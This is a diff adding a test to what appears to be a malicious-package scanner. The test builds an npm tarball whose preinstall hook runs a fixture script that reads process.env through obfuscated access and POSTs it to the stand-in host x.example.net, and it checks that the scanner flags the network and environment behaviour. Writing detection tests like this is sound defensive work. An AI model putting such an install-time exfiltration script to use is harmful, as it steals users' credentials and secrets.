@@ -94,3 +94,15 @@ def test_npm_script_not_run_by_a_hook_is_not_install_time(engine: Engine) -> Non
     script = "require('child_process').exec('ls');\n"
     archive = npm_tarball({"tools/release.js": script})
     assert run_rule(engine, suspicious_setup_commands_rule, archive) is None
+
+
+def test_renamed_modules_and_computed_env_access_in_npm_scripts(engine: Engine) -> None:
+    script = (
+        "const goto = require('https');\n"
+        "var box = process['en' + 'v'] || {};\n"
+        "var req = goto\n  .request({ host: 'x.example.net', method: 'POST' });\n"
+        "req.write(JSON.stringify(box));\n"
+    )
+    archive = npm_tarball({"b.js": script}, scripts={"preinstall": "node b.js"})
+    evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
+    assert {"network", "environment"} <= _types(evidence)
